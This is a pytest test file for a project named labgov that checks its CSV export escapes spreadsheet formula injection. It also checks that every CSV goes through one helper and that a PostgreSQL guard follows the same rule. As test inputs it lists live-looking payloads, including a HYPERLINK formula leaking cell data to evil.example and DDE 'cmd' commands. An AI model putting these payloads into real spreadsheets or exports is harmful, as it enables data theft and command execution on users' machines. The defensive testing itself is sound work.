"""CSV formula injection (issue 9): no CSV labgov serves can carry a spreadsheet formula."""

import csv
import io
import re
from pathlib import Path

import pytest

from labgov.core.csv_export import SafeWriter, safe_cell

LABGOV = Path(__file__).resolve().parents[2] / "labgov"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?leak="&A2,"Open")', "'=HYPERLINK("),
        ("+cmd|' /C calc'!A0", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("--", "'--"),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert safe_cell(value).startswith(written)
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["-12.50", "+3", "-0.000137", "1e5", "-1E-3", ".5", "12", "Vision", "a=b", ""]
)
def test_numbers_and_harmless_text_are_unchanged(value):
    """A refund of -12.50 stays a number the spreadsheet can add up."""
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_cell_and_round_trips():
    out = io.StringIO()
    SafeWriter(out).writerows([["=1+1", "-12.50", None, 7], ["ok", "@x", "", "-"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "-12.50", "", "7"],
        ["ok", "'@x", "", "'-"],
    ]


def test_no_csv_is_written_outside_the_helper():
    """Every CSV download, present and future, goes through labgov/core/csv_export.py: a
    csv.writer (or DictWriter) anywhere else in labgov fails this test."""
    pattern = re.compile(
        r"\bcsv\s*\.\s*(writer|DictWriter)\b|from\s+csv\s+import\s+[^\n]*\bwriter\b|\bDictWriter\b"
    )
    offenders = [
        str(path.relative_to(LABGOV))
        for path in LABGOV.rglob("*.py")
        if path.name != "csv_export.py" and pattern.search(path.read_text())
    ]
    assert offenders == []
    assert pattern.search((LABGOV / "core" / "csv_export.py").read_text())


GUARD_SAMPLES = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "--",
    "-12.50",
    "+3",
    "-0.000137",
    "1e5",
    "-1E-3",
    ".5",
    "-.5e+7",
    "-1.",
    "-1e",
    "-١٢",  # not ASCII digits: guarded by both
    "Vision",
    "a=b",
    "",
    "it's",
]


def test_the_sql_guard_is_the_same_rule(postgres):
    """copy_csv_stream's guard, run by PostgreSQL, agrees with safe_cell on every sample."""
    from django.db import connection

    from labgov.core.csv_export import guard_sql

    with connection.cursor() as cursor:
        for value in GUARD_SAMPLES:
            cursor.execute(f"SELECT {guard_sql('v.x')} FROM (SELECT %s::text AS x) v", [value])
            assert cursor.fetchone()[0] == safe_cell(value), value
